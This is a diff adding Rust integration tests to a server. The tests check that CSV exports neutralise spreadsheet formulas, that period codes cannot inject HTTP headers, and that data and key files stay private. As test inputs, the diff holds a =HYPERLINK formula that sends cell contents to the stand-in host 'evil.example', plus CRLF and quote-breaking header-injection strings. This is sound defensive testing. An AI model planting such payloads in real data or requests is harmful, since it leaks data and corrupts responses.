@@ -475,3 +475,126 @@ fn free_port() -> u16 {
         .unwrap()
         .port()
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_exports_keep_formulas_inert() {
+    let app = TestApp::spawn(Db::Sqlite).await.unwrap();
+    let mut phone = Phone::enrol(&app, "inspector1").await;
+    let formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")";
+    let (case_id, mut payload) = new_case(app.zone("Z01"), 0, "event:0102");
+    payload["description"] = json!(formula);
+    let op = phone.op("case.create@1", payload);
+    let (status, body) = phone.push(&app, &[op]).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+
+    let sup = app.login("supervisor1").await;
+    let (status, csv_bytes) =
+        crate::support::get_bytes(&app, "/v1/exports/cases?format=csv", &sup).await;
+    assert_eq!(status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
+    let headers = reader.headers().unwrap().clone();
+    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    let row = rows
+        .iter()
+        .find(|r| r[col("id")] == case_id.to_string())
+        .expect("the case is exported");
+    assert_eq!(
+        &row[col("description")],
+        format!("'{formula}"),
+        "shown as text, not run"
+    );
+    // The API itself keeps the description as written.
+    let (_, case) = app.get(&format!("/v1/cases/{case_id}"), Some(&sup)).await;
+    assert_eq!(case["description"], formula);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn period_codes_cannot_break_download_headers() {
+    let app = TestApp::spawn(Db::Sqlite).await.unwrap();
+    let admin = app.login("admin").await;
+    for code in ["P1\r\nX-Evil: 1", "P1\"; filename=evil.exe", "P 1", ""] {
+        let (status, body) = app
+            .post(
+                "/v1/periods",
+                Some(&admin),
+                &json!({"code": code, "starts_at": "2101-01-01T00:00:00Z", "ends_at": "2101-02-01T00:00:00Z"}),
+            )
+            .await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{code:?}: {body}");
+        assert_eq!(body["details"]["path"], "code", "{body}");
+    }
+    let (status, body) = app
+        .post(
+            "/v1/periods",
+            Some(&admin),
+            &json!({"code": "2101年1月", "starts_at": "2101-01-01T00:00:00Z", "ends_at": "2101-02-01T00:00:00Z"}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "letters of any script: {body}");
+
+    // A code stored before codes were checked still downloads, under a harmless name.
+    let mut tx = app.state.db.begin_write().await.unwrap();
+    let old = gridline_tests::gridline_server::store::reference::insert_period(
+        tx.conn(),
+        &gridline_tests::gridline_server::model::PeriodInput {
+            code: "Q\r\nX-Evil: 1\"; a=b".into(),
+            starts_at: time::macros::datetime!(2102-01-01 0:00 UTC),
+            ends_at: time::macros::datetime!(2102-02-01 0:00 UTC),
+        },
+    )
+    .await
+    .unwrap();
+    tx.commit().await.unwrap();
+    let inspector = app.login("inspector1").await;
+    let resp = app
+        .http
+        .get(app.url(&format!(
+            "/v1/exports/ranking?period_id={}&format=csv",
+            old.id
+        )))
+        .bearer_auth(&inspector)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), StatusCode::OK);
+    assert!(resp.headers().get("x-evil").is_none());
+    let disposition = resp.headers()["content-disposition"].to_str().unwrap();
+    assert_eq!(
+        disposition,
+        "attachment; filename=\"ranking-Q__X-Evil: 1__ a=b.csv\"; \
+         filename*=UTF-8''ranking-Q%0D%0AX-Evil%3A%201%22%3B%20a%3Db.csv"
+    );
+}
+
+/// The database (with its WAL files), the signing keys and the local photo store are the
+/// server user's alone.
+#[cfg(unix)]
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn data_files_are_private_to_the_server_user() {
+    use std::os::unix::fs::PermissionsExt;
+    let parent = tempfile::tempdir().unwrap();
+    let data = parent.path().join("var").join("gridline");
+    let data_dir = data.clone();
+    let app = TestApp::spawn_with(Db::Sqlite, move |c| {
+        c.data_dir = data_dir;
+        c.blob.backend = gridline_tests::gridline_server::config::BlobBackend::Local;
+    })
+    .await
+    .unwrap();
+    // A write, so the WAL is in use.
+    let admin = app.login("admin").await;
+    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    for file in [
+        "gridline.db",
+        "gridline.db-wal",
+        "gridline.db-shm",
+        "keys.json",
+    ] {
+        assert_eq!(mode(&data.join(file)), 0o600, "{file}");
+    }
+    for dir in [parent.path().join("var"), data.clone(), data.join("blobs")] {
+        assert_eq!(mode(&dir), 0o700, "{}", dir.display());
+    }
+    assert!(!admin.is_empty());
+}
